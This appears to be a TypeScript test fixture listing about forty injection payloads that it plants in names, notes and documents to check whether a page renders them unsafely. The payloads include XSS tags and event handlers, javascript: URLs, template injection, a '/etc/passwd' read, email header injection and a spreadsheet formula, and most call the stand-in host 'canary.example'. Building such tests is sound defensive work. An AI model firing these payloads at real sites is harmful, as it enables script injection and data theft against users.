/*
 * What somebody may write into a name, a note, a document, so that a page that shows it does what they want: opens a
 * dialog, asks a foreign host, or grows an element of theirs (`data-canary`). Spread over all texts by `plantPayloads`.
 */
export const CANARY = "canary.example";
const run = `alert(1),fetch('//${CANARY}')`;

export const PAYLOADS: readonly string[] = [
  `<script data-canary>${run}</script>`,
  `</script><script data-canary>${run}</script>`,
  `<img data-canary src=x onerror="${run}">`,
  `"><img data-canary src=//${CANARY}/x>`,
  `'><svg data-canary onload=${run}>`,
  `<svg data-canary><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<iframe data-canary src="//${CANARY}/"></iframe>`,
  `<iframe data-canary srcdoc="<script>${run}</script>"></iframe>`,
  `<object data-canary data="//${CANARY}/x"></object>`,
  `<embed data-canary src="//${CANARY}/x">`,
  `<link data-canary rel=stylesheet href="//${CANARY}/x.css">`,
  `<style data-canary>@import '//${CANARY}/x.css';</style>`,
  `<base data-canary href="//${CANARY}/">`,
  `<meta data-canary http-equiv=refresh content="0;url=//${CANARY}/">`,
  `<form data-canary action="//${CANARY}/"><button autofocus onfocus="${run}">`,
  `<input data-canary autofocus onfocus="${run}">`,
  `<details data-canary open ontoggle="${run}">`,
  `<video data-canary><source onerror="${run}"></video>`,
  `<body data-canary onload="${run}">`,
  `<math data-canary><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<noscript><p title="</noscript><img data-canary src=x onerror=${run}>">`,
  `<template data-canary><script>${run}</script></template>`,
  `<a data-canary href="javascript:${run}">x</a>`,
  `[x](javascript:${run})`,
  `[x](//${CANARY}/ "x")`,
  `![x](//${CANARY}/x.png)`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `&lt;script data-canary&gt;${run}&lt;/script&gt;`,
  `\\u003cscript data-canary\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript data-canary%3E${run}%3C/script%3E`,
  `{{constructor.constructor("${run}")()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `--><img data-canary src=x onerror="${run}"><!--`,
  `]]><img data-canary src=x onerror="${run}">`,
  `\`);${run};//`,
  `#image("//${CANARY}/x.png") #read("/etc/passwd")`,
  `\r\nBcc: canary@${CANARY}\r\n\r\n<img data-canary src=x>`,
  `=HYPERLINK("http://${CANARY}/","x")`,
];
